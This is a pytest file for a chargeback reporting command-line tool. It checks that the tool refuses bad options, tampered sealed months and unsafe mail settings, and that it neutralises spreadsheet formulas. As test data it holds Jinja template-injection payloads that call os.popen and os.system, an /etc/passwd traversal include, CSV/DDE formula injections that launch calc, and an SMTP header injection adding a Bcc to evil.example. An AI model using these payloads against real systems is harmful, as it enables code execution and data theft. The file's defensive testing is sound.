"""The bad-input matrix, part files (issue 12): options, file system, templates, closed months.

Each case breaks one thing and checks, through tests/hostile.py, that the run
refuses with exit 1 (2 for the command line), names the place, prints no
traceback and leaves the output folder as it was. The CSV tests check the other
half of the promise: a hostile value that is accepted reaches no CSV as a live
formula.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import subprocess
import sys
from pathlib import Path

import pytest
from hostile import GOOD_CONTACTS, GOOD_RULES, assert_refused, run, snapshot, workspace
from hypothesis import given
from hypothesis import strategies as st

from chargeback.csvwrite import csv_text, read_cell, safe_cell

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = workspace(tmp_path / "ws")
    (root / "out").mkdir()
    (root / "out" / "keep.txt").write_text("filed by finance\n")
    return root


def report(ws: Path, *extra: str) -> list[str]:
    return ["report", "--workspace", str(ws), "--out", str(ws / "out"), *extra]


def kept(ws: Path) -> tuple[Path, dict[str, bytes]]:
    return ws / "out", snapshot(ws / "out")


# --------------------------------------------------------------------------- options

OPTION_CASES = [
    (["--period", "2026-13"], 2, "2026-13"),
    (["--period", "March"], 2, "March"),
    (["--period", "2026-3-1"], 2, "2026-3-1"),
    (["--from", "2026-05"], 2, "--to"),
    (["--from", "2026-05", "--to", "2026-03"], 2, "2026-05"),
    (["--format", "xlsx"], 2, "xlsx"),
    (["--format", ""], 2, "--format"),
    (["--pdf-variant", "pdf/z-9"], 2, "pdf/z-9"),
    (["--on-bad-rows", "ignore"], 2, "--on-bad-rows"),
    (["--contacts", "nowhere/*.csv"], 1, "nowhere"),
    (["--templates", "no-such-folder"], 2, "no-such-folder"),
    (["--period", "2026-03", "--from", "2026-03", "--to", "2026-04"], 2, "--period"),
]


@pytest.mark.parametrize(("extra", "code", "place"), OPTION_CASES)
def test_bad_options_are_refused_by_name(ws: Path, extra: list[str], code: int, place: str) -> None:
    before = kept(ws)
    assert_refused(run(report(ws, "--format", "csv", *extra)), place, code=code, untouched=before)


def test_a_missing_workspace_is_named(tmp_path: Path) -> None:
    # a usage error (exit 2), like any other option that names what is not there
    assert_refused(run(["report", "--workspace", tmp_path / "nope"]), "nope", code=2)


def test_explain_an_unknown_contact_names_it(ws: Path) -> None:
    result = run(["explain", "no-such-contact", "--workspace", ws])
    assert_refused(result, "no-such-contact")


def test_diff_against_a_missing_folder_names_it(ws: Path) -> None:
    result = run(["diff", ws / "nowhere", ws / "rules", "--workspace", ws])
    assert_refused(result, "nowhere")


# --------------------------------------------------------------------------- file system


def test_out_is_a_file(ws: Path) -> None:
    target = ws / "ledger-out"
    target.write_text("not a folder")
    result = run(["report", "--workspace", ws, "--out", target, "--format", "csv"])
    assert_refused(result, "ledger-out")
    assert target.read_text() == "not a folder"


def test_out_inside_a_file_is_refused(ws: Path) -> None:
    (ws / "plain").write_text("x")
    result = run(["report", "--workspace", ws, "--out", ws / "plain" / "sub", "--format", "csv"])
    assert_refused(result, "plain")


@pytest.mark.parametrize("args", [["sample", "{file}"], ["sample", "{full}"], ["init", "{full}"]])
def test_sample_and_init_never_overwrite(tmp_path: Path, args: list[str]) -> None:
    (tmp_path / "afile").write_text("mine")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "mine.txt").write_text("mine")
    before = snapshot(tmp_path)
    target = args[1].format(file=tmp_path / "afile", full=tmp_path / "full")
    result = run([args[0], target, *(["--contacts", "50"] if args[0] == "sample" else [])])
    assert_refused(result, Path(target).name, untouched=(tmp_path, before))


def _limited_run(ws: Path, limit: int, *args: str) -> subprocess.CompletedProcess[str]:
    """The installed CLI with a file-size limit: writes past it fail as on a full disk."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "chargeback", *args],
        cwd=ws,
        capture_output=True,
        text=True,
        preexec_fn=cap,
        env={**os.environ, "CHARGEBACK_WORKERS": "1"},
        timeout=300,
    )


def test_a_full_disk_leaves_nothing_half_written(ws: Path) -> None:
    many = "contact_id,started_at,channel,reason,handle_seconds\n" + "".join(
        f"c{i},2026-03-{1 + i % 28:02d}T09:00:00,phone,billing.late_fee,{i % 900}\n"
        for i in range(3000)
    )
    (ws / "contacts.csv").write_text(many)
    before = kept(ws)
    done = _limited_run(ws, 600, "report", "--format", "csv,json", "--out", "out")
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr + done.stdout
    assert "out" in done.stderr and "cannot write" in done.stderr
    assert snapshot(ws / "out") == before[1]
    assert not [p for p in ws.rglob("*") if ".tmp-" in p.name]


def test_a_full_disk_during_sample_leaves_no_half_workspace(tmp_path: Path) -> None:
    done = _limited_run(tmp_path, 20_000, "sample", "demo", "--contacts", "5000")
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr + done.stdout
    assert "demo" in done.stderr
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- templates


def _templates(tmp_path: Path, addition: str, name: str = "_layout.html.j2") -> Path:
    folder = tmp_path / "tpl"
    folder.mkdir()
    for path in (REPO / "report_templates").iterdir():
        (folder / path.name).write_bytes(path.read_bytes())
    target = folder / name
    target.write_text(target.read_text() + addition)
    return folder


TEMPLATE_CASES = [
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "unsafe"),
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "unsafe"),
    ("{{ lipsum.__globals__['os'].system('id') }}", "unsafe"),
    ("{{ (10**64)**64**64 }}", "power"),
    ("{{ 'x' * 10**8 }}", "repeat"),
    ("{% for i in range(10**9) %}{% endfor %}", "range"),
    ("{% set d = {} %}{{ d.update(x=1) }}", "unsafe"),
    ("{{ no_such_value }}", "no_such_value"),
    ("{% if %}", "syntax"),
    ("{% include 'missing.html.j2' %}", "missing.html.j2"),
    ("{% include '../../../../etc/passwd' %}", "passwd"),
]


@pytest.mark.parametrize(("addition", "said"), TEMPLATE_CASES)
def test_templates_are_untrusted_code(ws: Path, tmp_path: Path, addition: str, said: str) -> None:
    folder = _templates(tmp_path, "\n" + addition + "\n")
    before = kept(ws)
    result = run(report(ws, "--format", "html", "--period", "2026-03", "--templates", str(folder)))
    assert_refused(result, said, untouched=before)
    if said not in ("missing.html.j2", "passwd"):
        assert "_layout.html.j2:" in result.output  # file:line of the template


def test_a_template_that_is_not_utf8_is_named(ws: Path, tmp_path: Path) -> None:
    folder = _templates(tmp_path, "")
    (folder / "_layout.html.j2").write_bytes(b"<p>caf\xe9</p>")
    before = kept(ws)
    result = run(report(ws, "--format", "html", "--period", "2026-03", "--templates", str(folder)))
    assert_refused(result, "UTF-8", untouched=before)


# --------------------------------------------------------------------------- closed months


def _closed(ws: Path) -> Path:
    ok = run(["close", "--period", "2026-03", "--workspace", ws, "--out", ws / "out"])
    assert ok.exit_code == 0, ok.output
    return ws / "out" / "closed" / "2026-03"


def _tamper_manifest(folder: Path) -> Path:
    path = folder / "manifest.json"
    doc = json.loads(path.read_text())
    doc["summary"]["cost"] = "0.01"
    path.write_text(json.dumps(doc, indent=2) + "\n")
    return path


def _tamper_ledger(folder: Path) -> Path:
    path = folder / "ledger.csv"
    path.write_text(path.read_text().replace("5.80", "0.58"))
    return path


def _reseal(folder: Path) -> Path:
    from chargeback.operations.seal import write_seal

    _tamper_manifest(folder)
    write_seal(folder)  # a matching SHA256SUMS beside it, but not the one history recorded
    return folder / "SHA256SUMS"


def _drop_seal(folder: Path) -> Path:
    (folder / "SHA256SUMS").unlink()
    return folder / "SHA256SUMS"


def _tamper_document(folder: Path) -> Path:
    path = next((folder / "documents").rglob("*.html"))
    path.write_text(path.read_text() + "<!-- edited -->")
    return path


@pytest.mark.parametrize(
    "tamper", [_tamper_manifest, _tamper_ledger, _reseal, _drop_seal, _tamper_document]
)
def test_a_tampered_closed_month_stops_the_run(ws: Path, tamper: object) -> None:
    folder = _closed(ws)
    changed = tamper(folder)  # type: ignore[operator]
    before = kept(ws)
    result = run(report(ws, "--format", "csv,html"))
    assert_refused(result, changed.name, untouched=before)


def test_a_tampered_month_can_still_be_reopened(ws: Path) -> None:
    _tamper_manifest(_closed(ws))
    done = run(["reopen", "--period", "2026-03", "--force", "--workspace", ws, "--out", ws / "out"])
    assert done.exit_code == 0, done.output
    again = run(report(ws, "--format", "csv"))
    assert again.exit_code == 0, again.output


def test_an_untouched_closed_month_verifies(ws: Path) -> None:
    _closed(ws)
    result = run(report(ws, "--format", "csv"))
    assert result.exit_code == 0, result.output
    sums = subprocess.run(
        ["sha256sum", "-c", "SHA256SUMS"],
        cwd=ws / "out" / "closed" / "2026-03",
        capture_output=True,
        text=True,
    )
    assert sums.returncode == 0, sums.stdout + sums.stderr


# --------------------------------------------------------------------------- CSV formulas

EVIL = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]
NUMBERS = ["-3080.24", "+1.5e3", "0", "-0.00", "12", ".5"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_cells_are_neutralised(value: str) -> None:
    cell = safe_cell(value)
    assert cell.startswith("'")
    assert read_cell(cell) == value


@pytest.mark.parametrize("value", NUMBERS)
def test_numbers_stay_numbers(value: str) -> None:
    assert safe_cell(value) == value


@given(st.lists(st.lists(st.text(max_size=12), min_size=3, max_size=3), max_size=6))
def test_csv_text_round_trips_and_never_starts_a_formula(rows: list[list[str]]) -> None:
    text = csv_text(["a", "b", "c"], rows)
    back = list(csv.reader(io.StringIO(text)))
    assert back[0] == ["a", "b", "c"]
    assert [[read_cell(c) for c in r] for r in back[1:]] == rows
    for row in back[1:]:
        for cell in row:
            stripped = cell.lstrip(" ")
            live = stripped[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
            assert not live or safe_cell(cell) == cell  # only plain numbers start so


def _all_csv_cells(folder: Path) -> list[str]:
    cells: list[str] = []
    for path in folder.rglob("*.csv"):
        cells += [c for r in csv.reader(io.StringIO(path.read_text())) for c in r]
    return cells


def _live(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r") and safe_cell(cell) != cell


def test_no_csv_the_product_writes_carries_a_live_formula(tmp_path: Path) -> None:
    rules = GOOD_RULES.replace(
        "{id: billing, name: Billing, cost_center: CC-100}",
        "{id: billing, name: '=HYPERLINK(\"http://x.example\")', cost_center: '+cmd|calc!A0',"
        " recipients: [lead@example.com]}",
    )
    contacts = GOOD_CONTACTS + "=HYPERLINK(1),2026-03-05T09:00:00,phone,billing.late_fee,60\n"
    root = workspace(tmp_path / "ws", rules, contacts, "journal: {service_cost_center: '-CS'}\n")
    out = root / "out"
    at = ["--workspace", root, "--out", out]
    journal = run(["journal", "--period", "2026-03", *at])
    assert journal.exit_code == 0, journal.output
    sent = run(["send", "--period", "2026-03", "--dry-run", *at])
    assert sent.exit_code == 0, sent.output
    with (root / "contacts.csv").open("a") as more:
        more.write("c9,not-a-time,@SUM(1),=cmd|calc,60\n")
    result = run(["report", "--format", "csv", "--on-bad-rows", "quarantine", *at])
    assert result.exit_code == 0, result.output
    cells = _all_csv_cells(out)
    assert "'=cmd|calc" in cells and "'@SUM(1)" in cells  # the rejected row, kept as text
    assert "'+cmd|calc!A0" in cells and "'-CS" in cells
    assert {"rejected.csv", "journal.csv"} <= {p.name for p in out.rglob("*.csv")}
    assert not [c for c in cells if _live(c)]
    # figures stay figures: the journal's credit line is a plain negative number
    assert any(c.startswith("-") and safe_cell(c) == c for c in cells)


def test_every_csv_is_written_by_the_one_writer() -> None:
    """No module but csvwrite.py writes CSV (the statements' PDF attachments use
    lines_csv, which goes through it), so no path around the formula guard exists."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.write_csv\(|\.sink_csv\(")
    # CSV as a wire format into PostgreSQL's COPY, never a file anyone opens
    wire = {"postgres_engine.py"}
    found = [
        str(path.relative_to(REPO))
        for path in (REPO / "chargeback").rglob("*.py")
        if path.name not in {"csvwrite.py", *wire} and writers.search(path.read_text())
    ]
    assert found == []


# --------------------------------------------------------------------------- SMTP settings

SMTP_CASES = [
    (
        {"CHARGEBACK_SMTP_FROM": "a@example.com\r\nBcc: x@evil.example"},
        True,
        "CHARGEBACK_SMTP_FROM",
    ),
    ({"CHARGEBACK_SMTP_FROM": "not an address"}, True, "CHARGEBACK_SMTP_FROM"),
    ({"CHARGEBACK_SMTP_HOST": "mail example.com"}, False, "CHARGEBACK_SMTP_HOST"),
    (
        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_PORT": "99999"},
        False,
        "CHARGEBACK_SMTP_PORT",
    ),
    (
        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_SECURITY": "tls13"},
        False,
        "CHARGEBACK_SMTP_SECURITY",
    ),
    (
        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_TIMEOUT": "nan"},
        False,
        "CHARGEBACK_SMTP_TIMEOUT",
    ),
    (
        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_USER": "bot"},
        False,
        "CHARGEBACK_SMTP_PASSWORD",
    ),
]


@pytest.mark.parametrize(("env", "dry", "place"), SMTP_CASES)
def test_bad_mail_settings_from_the_environment_are_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, env: dict[str, str], dry: bool, place: str
) -> None:
    rules = GOOD_RULES.replace(
        "cost_center: CC-100}", "cost_center: CC-100, recipients: [a@example.com]}"
    )
    root = workspace(tmp_path / "ws", rules)
    (root / "out").mkdir()
    (root / "out" / "keep.txt").write_text("x")
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    before = kept(root)
    args = ["send", "--period", "2026-03", "--workspace", root, "--out", root / "out"]
    result = run([*args, *(["--dry-run"] if dry else [])])
    assert_refused(result, place, untouched=before)


# --------------------------------------------------------------------------- found by review


def test_a_forged_closed_folder_is_not_served(ws: Path) -> None:
    import shutil

    folder = _closed(ws)
    forged = folder.parent / "zz-forged"
    shutil.copytree(folder, forged)
    before = kept(ws)
    assert_refused(run(report(ws, "--format", "csv")), "zz-forged", untouched=before)


def test_a_closed_manifest_for_another_month_is_refused(ws: Path) -> None:
    from chargeback.operations.seal import write_seal

    folder = _closed(ws)
    path = folder / "manifest.json"
    path.write_text(path.read_text().replace('"period": "2026-03"', '"period": "2026-04"'))
    write_seal(folder)
    (ws / "out" / "closed" / "history.jsonl").unlink()  # as if closed before seals
    before = kept(ws)
    assert_refused(run(report(ws, "--format", "csv")), "manifest.json", untouched=before)


def test_a_symlinked_lock_never_writes_through(ws: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (ws / "out" / ".chargeback.lock").symlink_to(victim)
    result = run(report(ws, "--format", "csv"))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert victim.read_text() == "precious\n"


def test_a_template_link_out_of_its_folder_is_refused(ws: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0\n")
    folder = _templates(tmp_path, '\n{% include "leak.html" %}\n')
    (folder / "leak.html").symlink_to(secret)
    before = kept(ws)
    result = run(report(ws, "--format", "html", "--period", "2026-03", "--templates", str(folder)))
    assert_refused(result, "leak.html", untouched=before)
    assert "root:x" not in result.output


@pytest.mark.parametrize("period", ["2026-03\n", "\uff12\uff10\uff12\uff16-03", "2026-03 "])
def test_a_month_is_ascii_digits_and_nothing_else(ws: Path, period: str) -> None:
    before = kept(ws)
    assert_refused(
        run(report(ws, "--format", "csv", "--period", period)), "--period", code=2, untouched=before
    )


def test_a_folder_in_the_way_stops_the_run_before_anything_is_replaced(ws: Path) -> None:
    (ws / "out" / "cs_value.json").mkdir()
    before = kept(ws)
    assert_refused(run(report(ws, "--format", "csv,json")), "cs_value.json", untouched=before)


@pytest.mark.parametrize("value", ["-\u0661\u0660\u0660", "-\U0001d7cf\U0001d7ce", "+\u0663"])
def test_only_ascii_numbers_stay_unguarded(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_a_control_baseline_field_that_is_not_a_column_is_located(tmp_path: Path) -> None:
    rules = GOOD_RULES.replace(
        '      reason: ["billing.late_fee*"]\n',
        '      reason: ["billing.late_fee*"]\n'
        "    baseline: {method: control, control: {fields: {nosuch: [x]}}}\n",
    )
    root = workspace(tmp_path / "ws", rules)
    for command in (["check"], ["explain", "c1"], ["report", "--out", str(root / "out")]):
        result = run([command[0], "--workspace", root, *command[1:]])
        assert_refused(result, "main.yaml:22")


def test_a_jinja_filter_assertion_is_a_template_error(ws: Path, tmp_path: Path) -> None:
    folder = _templates(tmp_path, '\n{{ "abcdef"|truncate(1) }}\n')
    before = kept(ws)
    result = run(report(ws, "--format", "html", "--period", "2026-03", "--templates", str(folder)))
    assert_refused(result, "_layout.html.j2", untouched=before)


@pytest.mark.parametrize("address", ["lead@b\u00fccher.example", "x" * 65 + "@example.com"])
def test_addresses_the_mailer_cannot_speak_are_refused_at_their_line(
    tmp_path: Path, address: str
) -> None:
    rules = GOOD_RULES.replace(
        "cost_center: CC-100}", f"cost_center: CC-100, recipients: ['{address}']}}"
    )
    root = workspace(tmp_path / "ws", rules)
    result = run(["send", "--period", "2026-03", "--dry-run", "--workspace", root])
    assert_refused(result, "main.yaml:2")
